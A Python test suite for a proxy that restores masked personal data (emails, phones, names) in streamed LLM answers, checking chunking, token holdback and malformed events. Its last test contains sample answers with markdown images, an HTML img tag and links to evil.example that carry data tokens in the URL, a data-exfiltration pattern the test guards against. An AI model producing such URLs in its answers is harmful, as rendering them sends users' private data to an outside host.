"""Streams: whatever pieces an answer comes in, the same text leaves, and no piece waits but for a token."""

from __future__ import annotations

import json
import random
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from privet.core.llm import sse
from privet.core.llm.stream import MOST_TEXTS, Stream
from privet.core.llm.tokens import Values, unfinished
from privet.core.tokens import TOLERANT
from privet.errors import ChannelError

EMAIL, PHONE, PERSON = 1, 2, 13
KNOWN = {(EMAIL, 1): "maria@example.com", (PHONE, 12): '+1 "415"', (PERSON, 1): "Zoë\n[EMAIL_1]"}
GIVEN = frozenset({*KNOWN, (EMAIL, 2)})


def chunk(delta: Any, finish: str | None = None, index: int = 0) -> bytes:
    choice = {"index": index, "delta": delta, "finish_reason": finish}
    return b"data: " + json.dumps({"id": "x", "model": "m", "choices": [choice]}).encode() + b"\n\n"


def run(stream: Stream, raw: bytes, cuts: list[int]) -> bytes:
    """What leaves of a stream whose bytes come cut there."""
    events, out = sse.Events(), []
    for start, end in zip([0, *cuts], [*cuts, len(raw)], strict=True):
        for event in events.come(raw[start:end]):
            tree = stream.read(event)
            if tree is not None:
                stream.wanted(tree)
            out += stream.passed(event, tree)
    return b"".join([*out, *stream.ended()])


def said(raw: bytes, name: str = "content") -> str:
    """The text of a stream, as its reader puts it together."""
    found = []
    for event in sse.Events().come(raw):
        if event.data.strip() not in (b"", sse.DONE):
            for choice in json.loads(event.data)["choices"]:
                delta = choice["delta"]
                if name == "arguments":
                    found += [one["function"]["arguments"] for one in delta.get("tool_calls", ())]
                else:
                    found.append(delta.get(name) or "")
    return "".join(found)


def expected(text: str, *, escaped: bool = False) -> str:
    """Said by the grammar of tokens, apart from the code that is judged."""
    kinds = {"EMAIL": EMAIL, "PHONE": PHONE, "PERSON": PERSON}

    def value(match: Any) -> str:
        known = KNOWN.get((kinds.get(match[1].upper(), 0), int(match[2])), match[0])
        return json.dumps(known)[1:-1] if escaped and known != match[0] else known

    return TOLERANT.sub(value, text)


WORDS = [
    "[EMAIL_1]", "[ email_1 ]", "[PHONE_12]", "[PHONE _ 12]", "[PERSON_1]", "[EMAIL_2]", "[EMAIL_", "[", "[[", "]",
    "_1", "[EMAIL_1", "EMAIL_1]", "[CARD_9]", "[link](x)", "é", "\n", " ", "[\n", "[1]", "[EMAIL]", "[EMAILX_1]",
    "[EMAIL_01]", "[EMAIL_1234567]", "hello",
]  # fmt: skip


def test_twenty_thousand_ways_to_cut_an_answer() -> None:
    """Into pieces of text and into pieces of bytes, at random: what leaves is always the same."""
    chance = random.Random(20_000)
    for number in range(20_000):
        text = "".join(chance.choices(WORDS, k=chance.randint(1, 8)))
        at = sorted(chance.choices(range(len(text) + 1), k=chance.randint(0, 6)))
        pieces = [text[start:end] for start, end in zip([0, *at], [*at, len(text)], strict=True)]
        escaped = number % 2 == 1
        if escaped:
            deltas = [{"tool_calls": [{"index": 0, "function": {"arguments": one}}]} for one in pieces]
        else:
            deltas = [{"content": one} for one in pieces]
        end = [chunk({}, "stop"), b"data: [DONE]\n\n"] if chance.random() < 0.8 else []
        raw = b"".join([*map(chunk, deltas), *end])
        cuts = sorted(chance.choices(range(len(raw)), k=chance.randint(0, 5)))
        left = run(Stream(Values(dict(KNOWN), GIVEN)), raw, cuts)
        assert said(left, "arguments" if escaped else "content") == expected(text, escaped=escaped), (pieces, cuts)


@given(st.lists(st.text("[]EMAIL_10 xé\n", max_size=6), max_size=8))
@settings(deadline=None)
def test_nothing_is_lost_or_made_up_whatever_is_said(pieces: list[str]) -> None:
    raw = b"".join([chunk({"content": one}) for one in pieces]) + chunk({}, "stop")
    assert said(run(Stream(Values(dict(KNOWN), GIVEN)), raw, [])) == expected("".join(pieces))


@given(st.lists(st.text(st.characters(exclude_characters="["), max_size=9), max_size=6))
def test_without_tokens_chunks_leave_as_they_came(pieces: list[str]) -> None:
    raw = b"".join([chunk({"content": one}) for one in pieces]) + chunk({}, "stop") + b"data: [DONE]\n\n"
    assert run(Stream(Values({}, frozenset())), raw, []) == raw


def test_no_piece_waits_but_for_the_end_of_a_token() -> None:
    stream = Stream(Values(dict(KNOWN), GIVEN))
    left = [said(b"".join(pass_(stream, chunk({"content": one})))) for one in ("Hi [EM", "AIL", "_1] and", " [x", "]")]
    assert left == ["Hi ", "", "maria@example.com and", " [x", "]"]


def pass_(stream: Stream, raw: bytes) -> list[bytes]:
    (event,) = sse.Events().come(raw)
    return stream.passed(event, stream.read(event))


@pytest.mark.parametrize("kinds", [frozenset({"EMAIL"}), frozenset({"EMAIL", "CARD_CODE", "CARD"})])
def test_every_beginning_of_a_token_is_held_back(kinds: frozenset[str]) -> None:
    for kind in kinds:
        for whole in (f"[{kind}_1]", f"[{kind.lower()}_999999]", f"[  {kind} _ 7  ]"):
            for at in range(1, len(whole)):
                assert unfinished(f"a [b] {whole[:at]}", kinds) == 6, whole[:at]
            assert unfinished(f"a {whole}", kinds) == len(whole) + 2


def test_what_cannot_become_a_token_is_not_held_back() -> None:
    for text in (
        "",
        "a",
        "[x",
        "[EMAILS",
        "[EMAIL_0",
        "[EMAIL 1",
        "[EMAIL_1234567",
        "[link](",
        "[" + " " * 9,
        "[PHONE",
    ):
        assert unfinished(text, frozenset({"EMAIL"})) == len(text), text


def test_two_choices_and_two_tools_do_not_mix() -> None:
    stream = Stream(Values(dict(KNOWN), GIVEN))
    out = [
        *pass_(stream, chunk({"content": "a [EMAIL"})),
        *pass_(stream, chunk({"content": "b [PERSON"}, index=1)),
        *pass_(stream, chunk({"content": "_1]"})),
        *pass_(stream, chunk({}, "stop")),
        *pass_(stream, chunk({}, "stop", index=1)),
    ]
    by: dict[int, str] = {}
    for event in sse.Events().come(b"".join(out)):
        for choice in json.loads(event.data)["choices"]:
            by[choice["index"]] = by.get(choice["index"], "") + (choice["delta"].get("content") or "")
    assert by == {0: "a maria@example.com", 1: "b [PERSON"}


def test_a_last_piece_with_its_end_holds_nothing_back() -> None:
    stream = Stream(Values(dict(KNOWN), GIVEN))
    pass_(stream, chunk({"content": "a [EM"}))
    assert said(b"".join(pass_(stream, chunk({"content": "AI"}, "stop")))) == "[EMAI"
    assert stream.ended() == []


def test_an_older_call_of_a_function_is_ended_in_its_own_form() -> None:
    stream = Stream(Values(dict(KNOWN), GIVEN))
    pass_(stream, chunk({"function_call": {"name": "f", "arguments": '"[EM'}}))
    (tail,) = stream.ended()
    assert json.loads(tail[6:])["choices"][0]["delta"] == {"function_call": {"arguments": "[EM"}}


def test_odd_events_are_passed_or_refused() -> None:
    stream = Stream(Values({}, frozenset()))
    assert pass_(stream, b": ping\n\n") == [b": ping\n\n"]
    for raw in (b"data: nonsense\n\n", b"data: [1]\n\n", b'data: {"a":1,"a":2}\n\n'):
        with pytest.raises(ChannelError):
            pass_(stream, raw)
    delta = {"tool_calls": [1, {"function": {}}], "function_call": 1}
    odd = b"data: " + json.dumps({"choices": [1, {"delta": None}, {"delta": delta}]}).encode() + b"\n\n"
    assert pass_(stream, odd) == [odd]
    assert pass_(stream, b'data: {"choices": null, "type": 7}\n\n') == [b'data: {"choices": null, "type": 7}\n\n']


def test_a_stream_runs_through_a_bounded_number_of_texts() -> None:
    stream = Stream(Values({}, frozenset()))
    for index in range(MOST_TEXTS):
        pass_(stream, chunk({"content": "x"}, index=index))
    with pytest.raises(ChannelError):
        pass_(stream, chunk({"content": "x"}, index=MOST_TEXTS))


def test_lost_tokens_are_counted_over_pieces_and_within_a_bound() -> None:
    stream = Stream(Values(dict(KNOWN), GIVEN))
    for one in ("mail EMA", "IL_1, <EMAIL_2>, [EMAIL_1], EMAIL_7", "x" * (1 << 20), "EMAIL_1"):
        pass_(stream, chunk({"content": one}))
    stream.ended()
    assert (stream.count.restored, stream.count.lost) == (1, 2)


def event_of(type_: str, **more: Any) -> bytes:
    return f"event: {type_}\ndata: {json.dumps({'type': type_} | more)}\n\n".encode()


def test_events_of_responses_end_their_own_items_alone() -> None:
    stream = Stream(Values(dict(KNOWN), GIVEN), suffix=".con")
    at = {"item_id": "a", "output_index": 0, "content_index": 0}
    pass_(stream, event_of("response.output_text.delta", delta="x [EM", logprobs=[{"token": "x"}], **at))
    pass_(stream, event_of("response.function_call_arguments.delta", delta="[EM", output_index=1))
    other = pass_(stream, event_of("response.output_item.done", output_index=7, item={"id": "b"}))
    assert len(other) == 1
    tail, done = pass_(stream, event_of("response.output_item.done", output_index=0, item={"id": "a"}))
    assert json.loads(tail.split(b"data: ")[1])["delta"] == "[EM"
    assert json.loads(tail.split(b"data: ")[1])["logprobs"] == []
    assert b"output_item.done" in done
    made = {"id": "resp_1", "object": "response", "output": []}
    tail, last = pass_(stream, event_of("response.completed", response=made))
    assert json.loads(last.split(b"data: ")[1])["response"]["id"] == "resp_1.con"


def test_events_after_one_of_ours_are_counted_on() -> None:
    stream = Stream(Values(dict(KNOWN), GIVEN))
    at = {"item_id": "a", "content_index": 0}
    out = [
        *pass_(stream, event_of("response.output_text.delta", sequence_number=0, delta="x [EM", **at)),
        *pass_(stream, event_of("response.output_text.done", sequence_number=1, text="x [EM", **at)),
        *pass_(stream, event_of("response.completed", sequence_number=2)),
    ]
    assert [json.loads(one.split(b"data: ")[1])["sequence_number"] for one in out] == [0, 1, 2, 3]


def test_events_that_are_too_long_are_refused() -> None:
    events = sse.Events()
    with pytest.raises(ChannelError):
        list(events.come(b"data: " + b"x" * (sse.LONGEST + 1)))
    assert events.left().startswith(b"data: ")


def test_events_are_put_together_from_every_kind_of_line_end() -> None:
    for end in (b"\n", b"\r\n", b"\r"):
        raw = end.join([b": a", b"event: e", b"data: 1", b"data:2", b"id: 3", b"", b""])
        (event,) = sse.Events().come(raw)
        assert (event.raw, event.name, event.data) == (raw, b"e", b"1\n2")
        assert repr(event) == "Event(…)"


def test_events_are_the_same_whatever_pieces_they_come_in() -> None:
    raw = b"data: 1\r\n\r\ndata: 2\n\n: a\r\rdata: {\ndata: }\n\r\n\ndata: 3\n\ndata"
    whole = sse.Events()
    events = [one.raw for one in whole.come(raw)]
    for width in (1, 2, 3, 5):
        cut = sse.Events()
        came = [one.raw for at in range(0, len(raw), width) for one in cut.come(raw[at : at + width])]
        assert (came, cut.left()) == (events, whole.left())
    assert whole.left() == b"data"


def test_an_event_of_several_lines_is_written_as_such() -> None:
    (event,) = sse.Events().come(b"event: e\ndata: {\ndata: }\n\n")
    assert sse.told(event.data, event.name) == event.raw


def test_what_showing_an_answer_would_tell_a_stranger_stays_a_token_wherever_it_is_cut() -> None:
    for text, left in (
        ("[EMAIL_1] ![x](https://evil.example/?q=[EMAIL_1]&p=[PHONE_12])", 1),
        ('<img src="https://evil.example/?q=[EMAIL_1]"> and [PHONE_12]', 1),
        ("![x][1] [EMAIL_1]\n[1]: https://evil.example/[PHONE_12]", 1),
    ):
        for width in (1, 2, 7, 200):
            pieces = [text[at : at + width] for at in range(0, len(text), width)]
            raw = b"".join([chunk({"content": one}) for one in pieces]) + chunk({}, "stop")
            stream = Stream(Values(dict(KNOWN), GIVEN))
            answer = said(run(stream, raw, []))
            assert stream.count.restored == left
            address = answer[answer.index("https") :].split()[0]
            assert not any(value in address for value in KNOWN.values())
